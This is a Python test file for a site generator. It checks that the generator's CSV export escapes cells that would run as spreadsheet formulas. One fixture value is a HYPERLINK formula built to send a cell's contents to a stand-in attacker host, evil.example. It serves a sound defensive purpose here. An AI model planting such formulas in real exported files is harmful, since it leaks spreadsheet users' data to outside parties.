"""Open data CSV: no cell runs as a formula in a spreadsheet, whichever field it comes from."""

from __future__ import annotations

import csv
import io

import pytest

from generator.csvsafe import FORMULA_STARTS, safe_cell
from tests.site.conftest import build

HOSTILE = '=HYPERLINK("https://evil.example/?"&A1,"点此查看")'


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_safe_cell_neutralises_every_formula_start(start):
    assert safe_cell(start + "1+1") == "'" + start + "1+1"
    assert safe_cell("张建国" + start) == "张建国" + start


def _rows(site, name):
    text = (site / "data" / f"{name}.csv").read_bytes().decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


def test_no_csv_cell_starts_a_formula(mini, tmp_path):
    mini.worker("zhang-jianguo", "张建国", extra=f"""\
position: "+焊工"
industry: "-手工作坊"
achievements:
  - '{HOSTILE}'
  - 第二项
summary: "@SUM(1+1)"
studio:
  name: '=1+1'
""")
    mini.worker("li-ming", "李明", extra='position: "\\t=1+1"\nachievements:\n  - "\\t-2"\n')  # a lone CR is refused
    site = tmp_path / "site"
    build(mini.root, site)
    rows = _rows(site, "workers")
    header, cells = rows[0], [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    zhang = dict(zip(header, next(row for row in rows if row[0] == "zhang-jianguo")))
    assert zhang["achievements"] == "'" + HOSTILE + "；第二项"
    assert zhang["studio"] == "'=1+1"
    assert zhang["position"] == "'+焊工" and zhang["industry"] == "'-手工作坊" and zhang["summary"] == "'@SUM(1+1)"
    li = dict(zip(header, next(row for row in rows if row[0] == "li-ming")))
    assert li["position"] == "'\t=1+1" and li["achievements"] == "'\t-2"
